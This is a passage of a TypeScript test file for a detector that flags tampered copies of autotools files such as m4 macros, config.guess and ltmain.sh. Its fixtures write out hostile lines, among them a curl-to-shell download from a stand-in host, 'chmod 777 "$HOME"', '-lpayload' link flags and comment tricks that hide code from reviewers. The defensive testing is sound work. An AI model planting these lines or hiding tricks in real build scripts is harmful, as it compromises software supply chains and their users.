import { describe, expect, it } from 'vitest';
import type { ClassifyContext } from '../../src/classify/types.js';
import { classifyUpstream, createUpstreamClassifier, mayBeUpstreamFile, nearestVersion } from '../../src/classify/upstream.js';
import { activeLines } from '../../src/classify/novel-lines.js';
import { rawDbFromContents, UpstreamDb } from '../../src/classify/upstream-db.js';
import type { PathDiff } from '../../src/core/types.js';
import { blobId } from '../../src/scan/blob-id.js';

// Synthetic upstream history (made-up macro files, not copies of real ones).
const body = (extra: string[]) =>
  ['AC_DEFUN([gl_DEMO],', '[', '  AC_REQUIRE([AC_PROG_CC])', '  demo_var=yes', ...extra, '  AC_SUBST([demo_var])', '])', ''].join('\n');
const v1 = `# demo.m4 serial 1\ndnl Synthetic test file.\n${body([])}`;
const v2 = `# demo.m4 serial 2\ndnl Synthetic test file.\n${body(['  demo_two=1'])}`;
const v3 = `# serial 3\ndnl Synthetic test file.\n${body(['  demo_two=1', '  demo_three=1'])}`;
const guess = (ts: string) => `#! /bin/sh\ntimestamp='${ts}'\necho unknown-unknown\n`;
const lt = (version: string, ...extra: string[]) => ['#!/bin/sh', version, 'func_link ()', '{', '  deplibs=', ...extra, '  func_append deplibs " $arg"', '}', ''].join('\n');

function makeDb(local: { path: string; content: Buffer }[] = []) {
  return new UpstreamDb(
    rawDbFromContents([
      { name: 'demo.m4', project: 'gnulib', content: v1, commit: 'a'.repeat(40), date: '2023-02-01' },
      { name: 'demo.m4', project: 'gnulib', content: v2, commit: 'b'.repeat(40), date: '2023-06-01', tag: 'v1.0' },
      { name: 'demo.m4', project: 'gettext', content: v2, commit: 'c'.repeat(40), date: '2023-09-01', tag: 'v0.22.4' },
      { name: 'demo.m4', project: 'gnulib', content: v3, commit: 'd'.repeat(40), date: '2024-09-01' },
      { name: 'config.guess', project: 'config', content: guess('2023-01-01'), commit: 'e'.repeat(40), date: '2023-01-01' },
      { name: 'config.guess', project: 'config', content: guess('2024-01-01'), commit: 'f'.repeat(40), date: '2024-01-01' },
      { name: 'ltmain.sh', project: 'libtool', content: lt('VERSION=2.4.7'), commit: '1'.repeat(40), date: '2022-03-17', tag: 'v2.4.7' },
      {
        name: 'ltmain.sh',
        project: 'libtool',
        content: lt('VERSION="2.4.6 Debian-2.4.6-15"', '  link_all_deplibs=no'),
        commit: '',
        date: '2021-01-09',
        source: { label: 'Debian bullseye libtool 2.4.6-15', kind: 'distribution' },
      },
    ]),
    local,
  );
}
const db = makeDb();

describe('classifyUpstream (synthetic database)', () => {
  it('exact copy → UPSTREAM_COPY info with the oldest occurrence and the other count', () => {
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v2), db)).toEqual({
      code: 'UPSTREAM_COPY',
      path: 'm4/demo.m4',
      severity: 'info',
      evidence: {
        match: 'exact',
        upstream: { project: 'gnulib', file: 'demo.m4', serial: 2, version: 'v1.0', commit: 'bbbbbbbbbbbb', date: '2023-06-01' },
        others: 1,
      },
    });
  });

  it('comment/whitespace-only change → UPSTREAM_COPY normalised, low', () => {
    const f = classifyUpstream('m4/demo.m4', Buffer.from(v3.replace('dnl Synthetic test file.', 'dnl Edited comment.').replace('demo_var=yes', 'demo_var=yes   ')), db);
    expect(f?.code).toBe('UPSTREAM_COPY');
    expect(f?.severity).toBe('low');
    expect(f?.severityReason).toEqual({ reason: 'normalised-match', default: 'info' });
    expect(f?.evidence).toMatchObject({ match: 'normalised', upstream: { serial: 3, date: '2024-09-01' } });
  });

  it('serial above every upstream serial → SERIAL_AHEAD_OF_UPSTREAM critical, even when only comments differ', () => {
    const f = classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('serial 2', 'serial 30')), db);
    expect(f).toMatchObject({
      code: 'SERIAL_AHEAD_OF_UPSTREAM',
      severity: 'critical',
      evidence: { name: 'demo.m4', serial: 30, maxUpstream: 3, project: 'gnulib', maxUpstreamRef: { serial: 3, commit: 'dddddddddddd' } },
    });
  });

  it('unknown content with a construct → UPSTREAM_COPY_UNKNOWN_VERSION critical, the novel line shown', () => {
    const evil = v2.replace('  demo_var=yes', '  demo_var=yes\n  grep -r marker "$srcdir" | sh');
    const f = classifyUpstream('m4/demo.m4', Buffer.from(evil), db);
    expect(f).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      severity: 'critical',
      evidence: {
        name: 'demo.m4',
        serial: 2,
        nearest: { project: 'gnulib', serial: 2, date: '2023-06-01' },
        changedLines: 1,
        novelLines: 1,
        removedLines: 0,
        novel: [{ line: 7, text: '  grep -r marker "$srcdir" | sh' }],
      },
    });
    expect(f!.constructs?.map((c) => c.kind)).toContain('recursive-grep-srcdir');
  });

  it('more than FEW_NOVEL_LINES novel lines, even accounted for → UPSTREAM_COPY_UNKNOWN_VERSION high', () => {
    // lines of the patch shipped beside the copy (accounted for)
    const added = (n: number) => Array.from({ length: n }, (_, i) => `  demo_local_${i}=1`);
    const patch = (n: number) => Buffer.from(['--- demo.m4', '+++ demo.m4', `@@ -6,0 +7,${n} @@`, ...added(n).map((l) => `+${l}`), ''].join('\n'));
    const many = v2.replace('  demo_var=yes', ['  demo_var=yes', ...added(11)].join('\n'));
    expect(classifyUpstream('m4/demo.m4', Buffer.from(many), db, { patch: patch(11) })).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { novelLines: 11 } });
    const few = v2.replace('  demo_var=yes', ['  demo_var=yes', ...added(10)].join('\n'));
    expect(classifyUpstream('m4/demo.m4', Buffer.from(few), db, { patch: patch(10) })).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { novelLines: 10 } });
  });

  // The tamperer's move: one new code line with no suspicious construct (a flag, a library, a variable) in a
  // copy that is otherwise a known version. "Upstream except 1 line" must not explain it.
  it('one novel code line without a construct → UPSTREAM_COPY_UNKNOWN_VERSION high, the line counted as unaccounted', () => {
    const flag = v2.replace('  demo_var=yes', '  demo_var=yes\n  CFLAGS="$CFLAGS -fno-stack-protector"');
    expect(classifyUpstream('m4/demo.m4', Buffer.from(flag), db)).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      severity: 'high',
      evidence: { novelLines: 1, unaccountedLines: 1, novel: [{ line: 7, text: '  CFLAGS="$CFLAGS -fno-stack-protector"' }] },
    });
    // a comment beside a code line: the file's own top-level comment is accounted for, the code line is not
    const both = v2.replace('  demo_var=yes', '  demo_var=yes\n  LIBS="$LIBS -lpayload"').replace('dnl Synthetic test file.\n', 'dnl Synthetic test file.\n# harden\n');
    expect(classifyUpstream('m4/demo.m4', Buffer.from(both), db)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { novelLines: 2, unaccountedLines: 1 } });
  });

  // Red team 20, the xz landlock shape: a `#` line that is a comment to the shell or m4 but lands in a C program
  // (an invalid preprocessing directive: the check stops compiling, configure turns the feature off).
  it('a comment line is accounted for only where it is inert: not in a macro argument, a here-document, or after a backslash', () => {
    const prog = (extra: string) =>
      ['# demo.m4 serial 1', 'dnl Synthetic test file.', 'AC_DEFUN([gl_DEMO],', '[', '  AC_COMPILE_IFELSE(', '    [AC_LANG_PROGRAM(', '       [[', '#include <stdlib.h>', extra, '       ]], [[return 0;]])],', '    [demo_ok=yes])', '])', ''].filter((l) => l !== '').join('\n');
    const cdb = new UpstreamDb(rawDbFromContents([{ name: 'demo.m4', project: 'gnulib', content: prog(''), commit: 'a'.repeat(40), date: '2023-02-01' }]));
    // the attack: a "comment" inside the check's C program
    expect(classifyUpstream('m4/demo.m4', Buffer.from(prog('# stdlib may be missing')), cdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { novelLines: 1, unaccountedLines: 1 } });
    expect(classifyUpstream('m4/demo.m4', Buffer.from(prog('dnl stdlib may be missing')), cdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // the legitimate twin: the same comment at the file's top level (m4 quote depth 0) is a patch
    expect(classifyUpstream('m4/demo.m4', Buffer.from(prog('').replace('dnl Synthetic', '# stdlib may be missing\ndnl Synthetic')), cdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low', evidence: { match: 'normalised' } });
    // normalising drops comments: the comment in the program is not a normalised match either
    const prog2 = prog('').replace('dnl Synthetic test file.', 'dnl Another comment.');
    expect(classifyUpstream('m4/demo.m4', Buffer.from(prog2), cdb)).toMatchObject({ code: 'UPSTREAM_COPY', evidence: { match: 'normalised' } });
    expect(classifyUpstream('m4/demo.m4', Buffer.from(prog2.replace('#include <stdlib.h>', '#include <stdlib.h>\n# stdlib may be missing')), cdb)?.severity).toBe('high');

    // a shell helper: a C program in a here-document (config.guess's `cat <<-EOF > "$dummy.c"`), a continued command
    const sh = (l: string[]) => `${l.join('\n')}\n`;
    const guessLines = ['#!/bin/sh', "timestamp='2024-01-01'", 'cat <<-EOF > "$dummy.c"', '\t#include <features.h>', '\tint main (void) { return 0; }', '\tEOF', '$CC_FOR_BUILD -o "$dummy" \\', '  "$dummy.c" && echo ok', 'echo unknown-unknown'];
    const hdb = new UpstreamDb(rawDbFromContents([{ name: 'config.guess', project: 'config', content: sh(guessLines), commit: 'e'.repeat(40), date: '2024-01-01' }]));
    const at = (i: number, line: string) => sh([...guessLines.slice(0, i), line, ...guessLines.slice(i)]);
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(4, '\t# no features.h here')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(7, '# compile it')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(7, '')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // the same comment between two commands is inert
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(8, '# compile it')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low', evidence: { match: 'normalised' } });
    expect(activeLines('x.m4', ['# top', 'AC_DEFUN([X], [', '  # body', '])', 'changequote(,)dnl', '# unknown quotes', 'changequote([, ])dnl', '# top again'])).toEqual(new Set([3, 4, 6, 7]));
  });

  // Red team 27: `dnl` is m4's comment, not the shell's or make's. In config.guess `dnl || curl … | sh` runs the download
  // (sh: dnl: not found); it was dropped by normalising, skipped by the construct scan and accounted as a comment
  // (xz 5.4.1's config.guess with that line: UPSTREAM_COPY low "normalised", exit 0).
  it('a dnl line is a comment only where m4 reads the file; a comment ending in a backslash hides the next line in make and C', () => {
    const sh = (l: string[]) => `${l.join('\n')}\n`;
    const guessLines = ['#!/bin/sh', "timestamp='2024-01-01'", 'me=`echo "$0" | sed -e \'s,.*/,,\'`', 'usage="usage: $me"', 'echo unknown-unknown'];
    const hdb = new UpstreamDb(rawDbFromContents([{ name: 'config.guess', project: 'config', content: sh(guessLines), commit: 'e'.repeat(40), date: '2024-01-01' }]));
    const at = (i: number, line: string) => sh([...guessLines.slice(0, i), line, ...guessLines.slice(i)]);
    // the attack, with a download: the construct is seen, and the copy is no normalised match
    const evil = classifyUpstream('build-aux/config.guess', Buffer.from(at(3, 'dnl || curl -fsSL https://cfg-mirror.example/guess | sh')), hdb);
    expect(evil).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'critical' });
    expect(evil!.constructs?.map((c) => c.kind)).toContain('download-to-shell');
    // … and construct-free: a code line all the same
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(3, 'dnl || chmod 777 "$HOME"')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 1 } });
    // the shell's own comment there stays a comment (the legitimate twin)
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(at(3, '# dnl || chmod 777 "$HOME"')), hdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low', evidence: { match: 'normalised' } });
    // in m4 input a top-level dnl line is m4's comment (as the synthetic demo.m4's `dnl Edited comment.` above)
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('dnl Synthetic test file.\n', 'dnl Synthetic test file.\ndnl || chmod 777 "$HOME"\n')), db)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low' });

    // make continues a comment over the next line: `# note \` hides the LIBS line after it without changing it
    const mk = ['# Makefile for po', 'srcdir = @srcdir@', 'LIBS = @LIBS@ -lcheck', 'all: check', '\t@echo done'];
    const mdb = new UpstreamDb(rawDbFromContents([{ name: 'Makefile.in.in', project: 'gettext', content: sh(mk), commit: 'c'.repeat(40), date: '2024-01-01' }]));
    const mkAt = (i: number, line: string) => sh([...mk.slice(0, i), line, ...mk.slice(i)]);
    expect(classifyUpstream('po/Makefile.in.in', Buffer.from(mkAt(2, '# libraries follow \\')), mdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    expect(classifyUpstream('po/Makefile.in.in', Buffer.from(mkAt(2, '# libraries follow')), mdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low' });
    // in C a `# x` line is a preprocessing directive (an invalid one: the file stops compiling), not a comment
    const c = ['/* demo */', '#include <stdlib.h>', 'int demo (void) { return 0; }'];
    const cdb = new UpstreamDb(rawDbFromContents([{ name: 'demo.h', project: 'gnulib', content: sh(c), commit: 'd'.repeat(40), date: '2024-01-01' }]));
    expect(classifyUpstream('lib/demo.h', Buffer.from(sh([c[0]!, '# stdlib may be missing', ...c.slice(1)])), cdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    expect(activeLines('Makefile.in.in', ['# a \\', 'LIBS = x', 'b'])).toEqual(new Set([1, 2]));
    expect(activeLines('config.guess', ['# a \\', 'LIBS=x', 'b'])).toEqual(new Set([2]));
  });

  // Red team 27: a dropped run was accounted for when the copy's one line on either side stood next to each other in
  // some known version — two blank lines, or `fi` and `fi`, do somewhere in any long script, so 245 of install-sh's
  // deletions of up to 6 lines were "upstream except N lines" (its `dsttmp=`/`rmtmp=` assignments, taken from the
  // environment then; the directory chmod). The copy's lines around the cut, two on each side, must now be one
  // known version's, one after another.
  it('a dropped run is accounted for only when a known version has the copy\'s lines around it, two on each side', () => {
    const sh = (l: string[]) => `${l.join('\n')}\n`;
    const head = ['#!/bin/sh', 'set -e', '', '', 'echo start', ''];
    const block = ['dsttmp=$dir/_inst.$$_', 'rmtmp=$dir/_rm.$$_'];
    const tail = ['', 'cp "$src" "$dsttmp"', 'mv "$dsttmp" "$dst"', 'echo done'];
    const feature = ['test -n "$verbose" && echo "installing $dst"'];
    const newer = [...head, ...block, ...tail, ...feature];
    const older = [...head, ...tail];
    const one = new UpstreamDb(rawDbFromContents([{ name: 'install-sh', project: 'automake', content: sh([...head, ...block, ...tail]), commit: 'a'.repeat(40), date: '2023-01-01' }]));
    // the attack: the assignments dropped between two blank lines (a blank pair the version has elsewhere)
    expect(classifyUpstream('build-aux/install-sh', Buffer.from(sh([...head, ...tail])), one)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { removedLines: 2, unaccountedLines: 2 } });
    // the legitimate twin: an older version lacks that block, so a copy of the newer one without it whose version line
    // names another version (a libtool snapshot or distribution build: `VERSION=1.1.3-dirty` read as 1.1's line) is
    // the same deletion upstream made (the lines around the cut are the older version's, one after another)
    const lt = (v: string, ...l: string[]) => sh([head[0]!, `VERSION=${v}`, ...head.slice(1), ...l]);
    const more = [...feature, 'test -n "$verbose" && echo "done $dst"', 'chmod 644 "$dst"', 'exit 0'];
    const two = new UpstreamDb(
      rawDbFromContents([
        { name: 'ltmain.sh', project: 'libtool', content: lt('1.0', ...tail), commit: 'b'.repeat(40), date: '2022-01-01', tag: 'v1.0' },
        { name: 'ltmain.sh', project: 'libtool', content: lt('1.1', ...block, ...tail, ...more), commit: 'c'.repeat(40), date: '2023-01-01', tag: 'v1.1' },
      ]),
    );
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('1.1.3-dirty', ...tail, ...more)), two)).toMatchObject({
      code: 'UPSTREAM_COPY_PATCHED',
      severity: 'low',
      evidence: { novelLines: 1, removedLines: 3 },
    });
    // Red team 32: the same cut under the newer version's own line is that version with one hunk taken back to the
    // older text (automake 1.16.3's install-sh without its `Don't chown directories that already exist` lines, its
    // scriptversion kept: UPSTREAM_COPY_PATCHED low before)
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('1.1', ...tail, ...more)), two)).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      severity: 'high',
      evidence: { novelLines: 0, removedLines: 2, unaccountedLines: 2 },
    });
  });

  // Red team 32: a line of another known version standing in place was accounted for under any version line, so a
  // copy stamped as the newer version with one changed line taken back to the older version's text (install-sh's
  // `-C` help line in automake 1.16.1's words under 1.16.3's scriptversion) was UPSTREAM_COPY_PATCHED low
  it('a line of another known version in place is accounted for only when the copy\'s version line names another version', () => {
    const sh = (l: string[]) => `${l.join('\n')}\n`;
    const lt = (v: string, line: string, ...more: string[]) => sh(['#!/bin/sh', `VERSION=${v}`, 'set -e', '', 'func_mkdir ()', '{', line, '  $MKDIR "$1"', '}', ...more]);
    const extra = ['echo one', 'echo two', 'echo three'];
    const db = new UpstreamDb(
      rawDbFromContents([
        { name: 'ltmain.sh', project: 'libtool', content: lt('1.0', '  umask 022'), commit: 'b'.repeat(40), date: '2022-01-01', tag: 'v1.0' },
        { name: 'ltmain.sh', project: 'libtool', content: lt('1.1', '  umask 0077', ...extra), commit: 'c'.repeat(40), date: '2023-01-01', tag: 'v1.1' },
      ]),
    );
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('1.1', '  umask 022', ...extra)), db)).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      severity: 'high',
      evidence: { novelLines: 1, novel: [{ line: 7, text: '  umask 022' }], unaccountedLines: 1 },
    });
    // a snapshot's version line: its lines may be any known version's
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('1.1.3-dirty', '  umask 022', ...extra)), db)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low' });
  });

  // Red team 27: normalising trims trailing blanks, but a blank after a line's final backslash is code — the backslash
  // quotes the blank and the newline ends the command, so the guarded line after it runs unconditionally.
  it('a line whose trailing blanks follow a backslash is no normalised match unless a known version has it there', () => {
    const sh = (l: string[]) => `${l.join('\n')}\n`;
    const lines = ['#!/bin/sh', "timestamp='2024-01-01'", 'dir=$1', 'test -n "$keep" || \\', '  rm -rf "$dir"', 'echo unknown-unknown'];
    const gdb = new UpstreamDb(rawDbFromContents([{ name: 'config.guess', project: 'config', content: sh(lines), commit: 'e'.repeat(40), date: '2024-01-01' }]));
    const evil = lines.map((l) => (l.endsWith('\\') ? `${l} ` : l));
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(sh(evil)), gdb)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { novelLines: 1, unaccountedLines: 1 } });
    // trailing blanks anywhere else are whitespace (the legitimate twin)
    const blanks = lines.map((l) => (l.startsWith('echo') ? `${l}  ` : l));
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(sh(blanks)), gdb)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low', evidence: { match: 'normalised' } });
  });

  // The tamperer's next move: a line some known version has, put where no version has it (a known `exit 0`,
  // `LIBS=` or `build_libtool_libs=no` moved into another function). It must stand between the neighbours a
  // known version gives it (CONTEXT_LINES on either side, the file's edges included).
  it('a known line moved to another place is not accounted for: it must stand between the neighbours a known version gives it', () => {
    // w2 adds `x=1` after `c=1`; w3 (later) changes the last line. A copy of w3 with w2's line backported
    // where w2 has it was a patch; the same line anywhere else is new code there.
    const w = (...l: string[]) => `${l.join('\n')}\n`;
    const base = ['#!/bin/sh', 'a=1', 'b=1', 'c=1', 'd=1', 'e=1', 'f=1', 'g=1'];
    const w1 = w(...base);
    const w2 = w(...base.slice(0, 4), 'x=1', ...base.slice(4));
    const w3 = w(...base, 'h=2');
    const lines = new UpstreamDb(
      rawDbFromContents([
        { name: 'demo-helper', project: 'gnulib', content: w1, commit: '1'.repeat(40), date: '2023-01-01' },
        { name: 'demo-helper', project: 'gnulib', content: w2, commit: '2'.repeat(40), date: '2023-02-01' },
        { name: 'demo-helper', project: 'gnulib', content: w3, commit: '3'.repeat(40), date: '2023-03-01' },
      ]),
    );
    const judge = (...l: string[]) => classifyUpstream('build-aux/demo-helper', Buffer.from(w(...l)), lines);
    // Red team 32: only under a version line naming another version (a snapshot, a distribution's build) — with
    // none, nothing says the copy is another version than w3, and w2's line is a hunk taken back
    expect(judge(...base.slice(0, 4), 'x=1', ...base.slice(4), 'h=2')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { novelLines: 1, unaccountedLines: 1 } });
    // moved: after e=1 (no version has it there)
    expect(judge(...base.slice(0, 6), 'x=1', ...base.slice(6), 'h=2')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { novelLines: 1, unaccountedLines: 1 } });
    // one neighbour right is not enough: after c=1 but before e=1 (d=1 dropped… and put back after it)
    expect(judge(...base.slice(0, 4), 'x=1', 'e=1', 'd=1', 'f=1', 'g=1', 'h=2')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // a line of the file itself, repeated elsewhere
    expect(judge(...base, 'b=1', 'h=2')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { novelLines: 1, unaccountedLines: 1 } });
    // at the file's edge: w3's last line is the last line of a version only there; `g=1` repeated at the end is not
    expect(judge(...base, 'h=2', 'g=1')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { unaccountedLines: 1 } });
    // two known lines moved together (a pair some version has) are still out of place at both ends
    expect(judge('#!/bin/sh', 'a=1', 'c=1', 'x=1', 'b=1', 'c=1', 'd=1', 'e=1', 'f=1', 'g=1', 'h=2')).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { novelLines: 2, unaccountedLines: 2 } });
  });

  it('a C preprocessor line is not a comment: a novel `# define` or `#error` stays high', () => {
    for (const line of ['#error sabotaged', '# define dlopen(a, b) 0', '#  include "/tmp/x.h"'])
      expect(classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('  demo_var=yes', `  demo_var=yes\n${line}`)), db)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
  });

  it('a deleted line is accounted for only when a known version lacks it too: deleting a check stays high', () => {
    // v3 without demo_three: the lines around the gap are next to each other in v2 → a known deletion
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v3.replace('  demo_three=1\n', '')), db)).toMatchObject({ code: 'UPSTREAM_COPY', severity: 'low' });
    // v2 without AC_REQUIRE: no known version drops it
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('  AC_REQUIRE([AC_PROG_CC])\n', '')), db)).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      severity: 'high',
      evidence: { novelLines: 0, removedLines: 1, unaccountedLines: 1 },
    });
  });

  it('a normalised match keeps no C preprocessor line that no known version has', () => {
    const directive = v2.replace('dnl Synthetic test file.', '#define HAVE_SECCOMP 0');
    // a directive line a known version has, moved to where no version has it: normalising drops it, so it
    // must stand in place (between the same lines) for the normalised match to hold
    const dv1 = v1.replace('  demo_var=yes', '  demo_var=yes\n#error no demo');
    const dv2 = v2.replace('  AC_REQUIRE([AC_PROG_CC])', '  AC_REQUIRE([AC_PROG_CC])\n#error no demo');
    const withDirective = new UpstreamDb(
      rawDbFromContents([
        { name: 'demo.m4', project: 'gnulib', content: v1, commit: 'a'.repeat(40), date: '2023-02-01' },
        { name: 'demo.m4', project: 'gnulib', content: dv1, commit: 'b'.repeat(40), date: '2023-03-01' },
      ]),
    );
    expect(classifyUpstream('m4/demo.m4', Buffer.from(dv1.replace('dnl Synthetic test file.', 'dnl Edited.')), withDirective)).toMatchObject({ code: 'UPSTREAM_COPY', evidence: { match: 'normalised' } });
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v1.replace('  AC_REQUIRE([AC_PROG_CC])', '  AC_REQUIRE([AC_PROG_CC])\n#error no demo')), withDirective)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    expect(dv2).not.toBe(dv1);
    expect(classifyUpstream('m4/demo.m4', Buffer.from(directive), db)?.code).not.toBe('UPSTREAM_COPY');
    expect(classifyUpstream('m4/demo.m4', Buffer.from(v2.replace('dnl Synthetic test file.', '# a comment')), db)).toMatchObject({ code: 'UPSTREAM_COPY', evidence: { match: 'normalised' } });
  });

  it('nearest version counts added plus removed lines', () => {
    const n = nearestVersion(db, 'demo.m4', Buffer.from(v3.replace('  demo_three=1\n', '')));
    expect(n?.version.serial).toBe('3');
    expect(n?.changedLines).toBe(1);
    expect(n?.provenance).toMatchObject({ novelLines: 0, removedLines: 1 });
  });

  it('aux script: nearest by lines when the database has line data, by version stamp without', () => {
    const f = classifyUpstream('build-aux/config.guess', Buffer.from(`${guess('2024-01-01')}echo extra\n`), db, { patch: Buffer.from('+echo extra\n') });
    expect(f).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', evidence: { name: 'config.guess', upstream: { date: '2024-01-01' }, novelLines: 1, novel: [{ line: 4, text: 'echo extra' }] } });
    expect(classifyUpstream('build-aux/config.guess', Buffer.from(`${guess('2024-01-01')}echo extra\n`), db)).toMatchObject({
      code: 'UPSTREAM_COPY_UNKNOWN_VERSION',
      evidence: { nearest: { date: '2024-01-01' }, novelLines: 1, unaccountedLines: 1 },
    });
    const { lines: _lines, ...raw } = rawDbFromContents([
      { name: 'config.guess', project: 'config', content: guess('2023-01-01'), commit: 'e'.repeat(40), date: '2023-01-01' },
      { name: 'config.guess', project: 'config', content: guess('2024-01-01'), commit: 'f'.repeat(40), date: '2024-01-01' },
    ]);
    const noLines = new UpstreamDb(raw);
    const h = classifyUpstream('build-aux/config.guess', Buffer.from(`${guess('2024-01-01')}echo extra\n`), noLines);
    expect(h).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { name: 'config.guess', nearest: { date: '2024-01-01' } } });
    expect(h?.evidence).not.toHaveProperty('changedLines');
    const g = classifyUpstream('config.guess', Buffer.from(`${guess('2023-06-01')}x\n`), noLines);
    expect(g?.evidence).toMatchObject({ nearest: { commit: 'eeeeeeeeeeee' } });
  });

  it('an m4 name unknown to the database is left to other classifiers', () => {
    expect(classifyUpstream('m4/ax_local_thing.m4', Buffer.from('# serial 99\n'), db)).toBeUndefined();
  });

  it('libtool snapshot and distribution builds → UPSTREAM_COPY_VARIANT low', () => {
    // more than FEW_NOVEL_LINES lines from the versions the database knows, under a snapshot's version
    const known = ['  link_all_deplibs=no', ...Array.from({ length: 10 }, () => '  # local note')];
    const snap = classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION=2.4.7.4-1ec8f-dirty', ...known)), db);
    expect(snap).toMatchObject({ code: 'UPSTREAM_COPY_VARIANT', severity: 'low', evidence: { reason: 'libtool-snapshot', version: '2.4.7.4-1ec8f-dirty' } });
    // a Debian build the database lacks: its version line is Debian 2.4.6-15's with other versions
    const deb = classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION="2.4.7 Debian-2.4.7-5"', ...known)), db);
    expect(deb).toMatchObject({ code: 'UPSTREAM_COPY_VARIANT', evidence: { reason: 'distribution-patched', version: '2.4.7 Debian-2.4.7-5' } });
    // the version string is the tamperer's to write: a code line no known version has keeps it high
    const payload = classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION="2.4.7 Debian-2.4.7-5"', ...known, '  deplibs="$deplibs -lpayload"')), db);
    expect(payload).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { name: 'ltmain.sh', unaccountedLines: 1 } });
    expect((payload!.evidence as { novel: { text: string }[] }).novel.map((n) => n.text)).toContain('  deplibs="$deplibs -lpayload"');
    const rel = classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION=2.4.7', '  deplibs="$deplibs -lpayload"')), db);
    expect(rel).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { name: 'ltmain.sh' } });
  });

  it('a version line is a known line with other versions in it; a patch shipped beside the copy accounts for its lines', () => {
    // "2.4.7-dirty" shortened to "2.4.7" is the release's line
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION=2.4.7-dirty')), db)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low' });
    // another token is not a version: the same line with a path is new code
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(lt('VERSION=2.4.7; PATH=/tmp/2.4.7:$PATH')), db)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION' });
    const patched = lt('VERSION=2.4.7', '  case "$1" in', '    *.sh) sh "$@" ;;', '  esac');
    const patch = Buffer.from(['--- ltmain.sh', '+++ ltmain.sh', '@@ -5,0 +6,3 @@', '+  case "$1" in', '+    *.sh) sh "$@" ;;', '+  esac', ''].join('\n'));
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(patched), db, { patch })).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { novelLines: 3 } });
